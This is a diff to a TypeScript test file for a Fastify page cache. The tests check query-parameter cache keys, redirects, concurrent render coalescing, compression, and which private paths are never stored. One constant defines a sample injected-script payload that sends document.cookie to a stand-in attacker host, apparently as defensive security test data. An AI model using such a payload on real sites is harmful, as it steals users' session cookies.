@@ -1,12 +1,24 @@
 import compress from '@fastify/compress';
 import Fastify, { type FastifyInstance } from 'fastify';
 import { afterEach, describe, expect, it } from 'vitest';
+import zlib from 'node:zlib';
 import { createContentEvents, type ContentEvents } from '#domain/content-events/content-events.ts';
+import { ALL_PAGES, knowledgeTag, PAGE_TAG, pathTag } from '#shared/cache-tags.ts';
 import { scriptHash } from '../page-cache/http-cache.ts';
+import type { PathReads } from '../page-cache/route-reads.ts';
 import { createPageCache, type PageCache } from './page-cache.ts';
 import { registerSecurity } from './security.ts';
 
 // The page cache with a stand-in for React Router, so each rule can be driven exactly.
+
+/** Stand-in route declarations: the knowledge list reads q and page; its items and the press list have tags. */
+function readsFor(path: string): PathReads {
+  const tags = [ALL_PAGES, pathTag(path)];
+  const item = /^\/knowledge-center\/([^/]+)$/.exec(path);
+  if (item) tags.push(knowledgeTag(item[1]!));
+  if (path === '/press-releases') tags.push(PAGE_TAG.pressList);
+  return { query: new Set(path === '/knowledge-center' ? ['q', 'page'] : []), tags };
+}
 
 const INJECTED = 'fetch("https://evil.example/?c="+document.cookie)';
 
@@ -23,25 +35,32 @@ afterEach(async () => {
   app = null;
 });
 
-async function setup(maxBytes: number, page: (url: string, search: string) => Rendered) {
+async function setup(maxBytes: number, page: (url: string, search: string) => Rendered | Promise<Rendered>) {
   const instance = Fastify({ logger: false });
+  const events: ContentEvents = createContentEvents();
+  const cache: PageCache = createPageCache(instance, { maxBytes, security: { dev: false, recaptcha: false }, events, mayRedirect: () => false });
+  cache.useRoutes(readsFor);
   await registerSecurity(instance, { dev: false, recaptcha: false });
   await instance.register(compress, { global: true, encodings: ['br', 'gzip'], threshold: 1024 });
-  const events: ContentEvents = createContentEvents();
-  const cache: PageCache = createPageCache(instance, { maxBytes, security: { dev: false, recaptcha: false }, events });
+  instance.addHook('onRequest', cache.onRequest);
   let renders = 0;
   instance.get('/*', async (request, reply) =>
     cache.serve(request, reply, {
-      webRequest: () => new Request(`http://localhost${request.url}`, { headers: request.headers as Record<string, string> }),
+      webRequest: (search) => {
+        const url = new URL(`http://localhost${request.url}`);
+        if (search !== undefined) url.search = search;
+        return new Request(url, { headers: request.headers as Record<string, string> });
+      },
       render: async (webRequest, nonce) => {
         renders++;
-        const r = page(new URL(webRequest.url).pathname, new URL(webRequest.url).search);
+        const r = await page(new URL(webRequest.url).pathname, new URL(webRequest.url).search);
         const headers = new Headers({ 'content-type': 'text/html; charset=utf-8', 'cache-control': 'private, no-cache' });
         for (const [k, v] of Object.entries(r.headers ?? {})) for (const one of [v].flat()) headers.append(k, one);
         return new Response(r.html(nonce), { status: r.status ?? 200, headers });
       },
-      send: async () => {
-        throw new Error('only HTML in these tests');
+      send: async (response) => {
+        if (response.status < 300 || response.status >= 400) throw new Error('only HTML and redirects in these tests');
+        return reply.code(response.status).header('location', response.headers.get('location')).send();
       },
     }),
   );
@@ -76,7 +95,7 @@ describe('page cache', () => {
 
   it('never stores private areas, previews, or requests with an Authorization header', async () => {
     const t = await setup(1024 * 1024, () => ({ html: (n) => doc(n) }));
-    for (const url of ['/api/x', '/auth/login', '/account', '/account/profile', '/siteadmin', '/siteadmin/pages', '/page?preview=1', '/preview/page']) {
+    for (const url of ['/api/x', '/auth/login', '/account', '/account/profile', '/siteadmin', '/siteadmin/pages', '/preview/page', '/preview/abc/', '/agrotain.data', '/product-selector']) {
       await t.app.inject(url);
     }
     await t.app.inject({ url: '/page', headers: { authorization: 'Bearer token' } });
@@ -119,23 +138,87 @@ describe('page cache', () => {
     expect((await t.app.inject('/p1')).headers['x-page-cache']).toBe('miss');
   });
 
-  it('leaves tracking parameters out of the key and out of the URL it renders, and keeps the rest', async () => {
+  it('keys a page on the parameters its route declares, and renders it without any other', async () => {
     const t = await setup(1024 * 1024, (url, search) => ({ html: (n) => doc(n, `<p>${url}${search}</p>`) }));
     const plain = await t.app.inject('/product');
-    for (const url of ['/product?utm_source=mail&utm_campaign=spring', '/product?fbclid=IwAR0x', '/product?gclid=Cj0K&msclkid=1&mc_cid=2&mc_eid=3']) {
+    for (const url of ['/product?utm_source=mail&utm_campaign=spring', '/product?ref=partner-1', '/product?source=x&campaign_id=7&_ga=2.1', '/product?q=zinc']) {
       const res = await t.app.inject(url);
       expect(res.headers['x-page-cache'], url).toBe('hit');
       expect(res.body, url).toBe(plain.body);
     }
     expect(t.renders()).toBe(1);
-    // the parameters a page reads still make their own entry, rendered without the tracking ones
-    const listed = await t.app.inject('/knowledge-center?q=zinc&utm_medium=email&page=2');
+    // the parameters a page reads make their own entry, rendered without the others, in one order
+    const listed = await t.app.inject('/knowledge-center?q=zinc&utm_medium=email&ref=x&page=2');
     expect(listed.headers['x-page-cache']).toBe('miss');
     expect(listed.body).toContain('<p>/knowledge-center?q=zinc&page=2</p>');
-    expect(listed.body).not.toContain('utm_');
+    expect(listed.body).not.toMatch(/utm_|ref=/);
     expect((await t.app.inject('/knowledge-center?q=zinc&page=2')).headers['x-page-cache']).toBe('hit');
-    expect((await t.app.inject('/knowledge-center?page=2&q=zinc')).headers['x-page-cache']).toBe('miss');
+    expect((await t.app.inject('/knowledge-center?q=zinc&fresh=1&page=2')).headers['x-page-cache']).toBe('hit');
+    expect((await t.app.inject('/knowledge-center?q=corn')).headers['x-page-cache']).toBe('miss');
     expect(t.cache.store.size).toBe(3);
+  });
+
+  it('gives a redirect the page answers with the parameters its route does not read, stored or not', async () => {
+    const t = await setup(1024 * 1024, (url) =>
+      url === '/moved' ? { status: 301, headers: { location: '/product' }, html: () => '' } : { html: (n) => doc(n) },
+    );
+    const first = await t.app.inject('/moved?utm_source=mail&ref=x');
+    expect(first.statusCode).toBe(301);
+    expect(first.headers.location).toBe('/product?utm_source=mail&ref=x');
+    const stored = await t.app.inject('/moved?ref=y');
+    expect(stored.headers['x-page-cache']).toBe('hit');
+    expect(stored.headers.location).toBe('/product?ref=y');
+    expect((await t.app.inject('/moved')).headers.location).toBe('/product');
+    expect(t.renders()).toBe(1);
+  });
+
+  it('renders concurrent misses of one page once: the others wait for that render', async () => {
+    let release!: () => void;
+    const gate = new Promise<void>((resolve) => (release = resolve));
+    const t = await setup(1024 * 1024, async () => {
+      await gate;
+      return { html: (n) => doc(n) };
+    });
+    const replies = Array.from({ length: 20 }, () => t.app.inject('/busy'));
+    await new Promise((resolve) => setTimeout(resolve, 50));
+    release();
+    const answered = await Promise.all(replies);
+    expect(t.renders()).toBe(1);
+    expect(t.cache.stats).toMatchObject({ renders: 1, coalesced: 19 });
+    expect(answered.map((r) => r.headers['x-page-cache']).sort()).toEqual(['miss', ...Array<string>(19).fill('coalesced')].sort());
+    expect(new Set(answered.map((r) => r.body)).size).toBe(1);
+  });
+
+  it('renders again for a waiting request when the shared render may not be stored', async () => {
+    let release!: () => void;
+    const gate = new Promise<void>((resolve) => (release = resolve));
+    const t = await setup(1024 * 1024, async () => {
+      await gate;
+      return { headers: { 'set-cookie': 'visitor=1' }, html: (n) => doc(n) };
+    });
+    const replies = Array.from({ length: 3 }, () => t.app.inject('/personal'));
+    await new Promise((resolve) => setTimeout(resolve, 50));
+    release();
+    const answered = await Promise.all(replies);
+    expect(t.renders()).toBe(3);
+    for (const r of answered) expect([r.headers['set-cookie']].flat()).toEqual(['visitor=1']);
+  });
+
+  it('answers a miss compressed at a fast level, and compresses a page served again at the best level in the background', async () => {
+    const t = await setup(1024 * 1024, () => ({ html: (n) => doc(n, `<p>${'varied words for the compressor '.repeat(300)}</p>`) }));
+    const br = { 'accept-encoding': 'br' };
+    const miss = await t.app.inject({ url: '/page', headers: br });
+    expect(miss.headers['content-encoding']).toBe('br');
+    const identity = zlib.brotliDecompressSync(miss.rawPayload);
+    expect(miss.rawPayload.length).toBe(zlib.brotliCompressSync(identity, { params: { [zlib.constants.BROTLI_PARAM_MODE]: zlib.constants.BROTLI_MODE_TEXT, [zlib.constants.BROTLI_PARAM_QUALITY]: 4, [zlib.constants.BROTLI_PARAM_SIZE_HINT]: identity.length } }).length);
+    // gzip is made when first asked for, fast too
+    const gz = await t.app.inject({ url: '/page', headers: { 'accept-encoding': 'gzip' } });
+    expect(zlib.gunzipSync(gz.rawPayload).equals(identity)).toBe(true);
+    await t.cache.idle();
+    const best = await t.app.inject({ url: '/page', headers: br });
+    expect(zlib.brotliDecompressSync(best.rawPayload).equals(identity)).toBe(true);
+    expect(best.rawPayload.length).toBeLessThan(miss.rawPayload.length);
+    expect(best.headers.etag).toBe(miss.headers.etag);
   });
 
   it('stores nothing with a budget of 0, and still answers with an ETag and a nonce', async () => {
